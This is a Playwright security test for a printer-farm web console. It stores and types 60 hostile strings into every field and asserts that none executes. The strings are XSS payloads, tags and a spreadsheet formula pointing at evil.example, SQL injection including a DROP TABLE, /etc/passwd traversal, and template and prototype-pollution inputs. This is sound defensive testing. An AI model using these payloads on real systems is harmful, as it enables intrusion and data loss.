import type { Page } from 'playwright-core';
import { startReceiver } from '../support/receiver.ts';
import { type Farm, openFarm } from './farm.ts';

interface ConsolePage {
  name: string;
  path: string;
  isDoor?: boolean;
  forms?: string[];
}
const { PAGES, isSettled, pathOf } = require('./pages.cjs') as {
  PAGES: ConsolePage[];
  isSettled(): boolean;
  pathOf(page: ConsolePage, ids: Record<string, string>): string;
};

/** Whatever of these runs calls `ran`, loads a picture of another host, or breaks the policy of the pages. */
const HOSTILE = [
  '<script>ran()</script>',
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '</script><script>ran()</script>',
  '<ScRiPt>ran()</sCrIpT>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror=ran()>',
  '"><img src=x onerror="ran()">',
  '<img src="https://evil.example/x.png">',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<body onload=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe src="javascript:parent.ran()">',
  '<a href="javascript:ran()">x</a>',
  'javascript:ran()',
  'JaVaScRiPt:ran()//',
  'data:text/html,<script>ran()</script>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '" autofocus onfocus="ran()',
  "' onmouseover='ran()",
  '" style="background:url(https://evil.example/x.png)',
  '<style>*{background:url(https://evil.example/x.png)}</style>',
  '</style><script>ran()</script>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<object data="javascript:ran()">',
  '<embed src="javascript:ran()">',
  '<math><mtext><script>ran()</script></mtext></math>',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<!--><img src=x onerror=ran()>-->',
  ']]><script>ran()</script>',
  '{{constructor.constructor("ran()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point
  '${ran()}',
  '<%= ran() %>',
  '#{ran()}',
  '`;ran();//',
  "';ran();//",
  '\\";ran();//',
  '\u2028ran()\u2029',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '%3Cscript%3Eran()%3C/script%3E',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  "' OR '1'='1",
  "'; DROP TABLE orders; --",
  '../../../../etc/passwd',
  '=HYPERLINK("https://evil.example/","x")',
  '\u202egnp.exe',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  '👩‍👩‍👧‍👦🏴‍☠️',
  'x'.repeat(150),
];

const CHANNELS = 9;

const { typeAll } = require('./type-all.cjs') as { typeAll(field: unknown, texts: string[]): Promise<void> };

let farm: Farm;
let ids: { order: string; filament: string };
let receiver: Awaited<ReturnType<typeof startReceiver>>;

beforeAll(async () => {
  farm = await openFarm();
  receiver = await startReceiver();
}, 60_000);

afterAll(async () => {
  await receiver?.stop();
  await farm?.close();
});

/** A page in which nothing may run that was only data. */
async function watch(path: string) {
  const visitor = await farm.visit(path);
  const { page } = visitor;
  const ran: string[] = [];
  await page.exposeFunction('ran', () => ran.push(page.url()));
  await page.addInitScript(`
    addEventListener('securitypolicyviolation', (event) => ran('policy ' + event.violatedDirective));
  `);
  page.on('dialog', (dialog) => {
    ran.push(dialog.message());
    dialog.dismiss();
  });
  await page.reload();
  return { ...visitor, ran };
}

const settle = (page: Page) => page.waitForFunction(isSettled);

test('there are 60 of them', () => expect(new Set(HOSTILE).size).toBe(60));

test('stored in every field of every record they are shown as text on every page', async () => {
  const group = await farm.visit('/account');
  const post = async (path: string, data: unknown) => {
    const answer = await group.page.context().request.post(`${farm.service.origin}/console/api${path}`, {
      data,
      headers: { Origin: farm.service.origin, 'Sec-Fetch-Site': 'same-origin' },
    });
    expect([path, answer.ok(), answer.ok() ? '' : await answer.text()]).toEqual([path, true, '']);
    return (await answer.json()) as { id: string };
  };
  let order = '';
  let filament = '';
  const channels: string[] = [];
  for (const [index, text] of HOSTILE.entries()) {
    const { id: group_id } = await post('/printer-groups', { name: text });
    const { id: printer_id } = await post('/printers', { name: text, internal_name: text, model: text, group_id });
    ({ id: filament } = await post('/filaments', { name: text, brand: text, type_name: text, spool_count: 1 }));
    ({ id: order } = await post('/print-jobs', {
      model_name: text,
      material_name: text,
      order_notes: text,
      customer_name: text,
      customer_contact: text,
      printer_id,
    }));
    await farm.ask('PUT', `/print-jobs/${order}`, { workflow_status: text });
    await post(`/filaments/${filament}/consume`, { grams: 1, order_id: order, note: text });
    await post('/tokens', { name: text.slice(0, 100).trim() });
    // one place of the ten is left for the form below
    if (index < CHANNELS) {
      const name = text.slice(0, 100);
      const { id } = await post('/webhook-subscriptions', { url: receiver.url, events: ['order.created'], name });
      await post(`/webhook-subscriptions/${id}/test`, {});
      channels.push(id);
    }
  }
  await group.page.context().close();
  ids = { order, filament };
  const { page, ran, complaints } = await watch('/');
  for (const shown of PAGES.filter(({ isDoor }) => !isDoor)) {
    await page.goto(`${farm.service.origin}/console${pathOf(shown, ids)}`);
    await settle(page);
    await page.waitForTimeout(300);
  }
  // the others as names of the channels that there are
  for (let next = CHANNELS; next < HOSTILE.length; next += CHANNELS) {
    for (const [place, id] of channels.entries()) {
      const name = HOSTILE[next + place]?.slice(0, 100) ?? 'n8n';
      await farm.ask('PUT', `/webhook-subscriptions/${id}`, { name });
    }
    for (const path of ['/automation/channels', '/automation/events']) {
      await page.goto(`${farm.service.origin}/console${path}`);
      await settle(page);
    }
  }
  expect(ran).toEqual([]);
  expect(complaints).toEqual([]);
  await page.context().close();
}, 480_000);

/** Fills each of the fields that are shown now with each of the strings. @returns how many fields there were */
async function fillAll(page: Page): Promise<number> {
  const fields = page.locator(
    'input:visible:not([type=checkbox]):not([type=radio]):not([type=file]):not([type=date]):not([type=datetime-local]):not([readonly]):not([inputmode=decimal]):not([inputmode=numeric]):not([type=number]), textarea:visible',
  );
  const count = await fields.count();
  for (let index = 0; index < count; index += 1) {
    await fields.nth(index).focus();
    await fields.nth(index).evaluate(typeAll, HOSTILE);
    await fields.nth(index).blur();
  }
  return count;
}

test('typed into every text field of every page and form they run nothing', async () => {
  const { page, ran, complaints } = await watch('/');
  const filled: Record<string, number> = {};
  for (const shown of PAGES.filter(({ isDoor }) => !isDoor)) {
    const open = async () => {
      await page.goto(`${farm.service.origin}/console${pathOf(shown, ids)}`);
      await settle(page);
    };
    await open();
    filled[shown.name] = await fillAll(page);
    for (const form of shown.forms ?? []) {
      await open();
      await page.locator(form).first().click();
      await page.getByRole('dialog').last().waitFor();
      filled[`${shown.name} ${form}`] = await fillAll(page);
    }
  }
  process.stdout.write(`hostile.test: 60 strings in ${JSON.stringify(filled)}\n`);
  expect(Object.entries(filled).filter(([name, count]) => name.includes(' ') && count === 0)).toEqual([]);
  expect(ran).toEqual([]);
  expect(complaints).toEqual([]);
  await page.context().close();
}, 480_000);
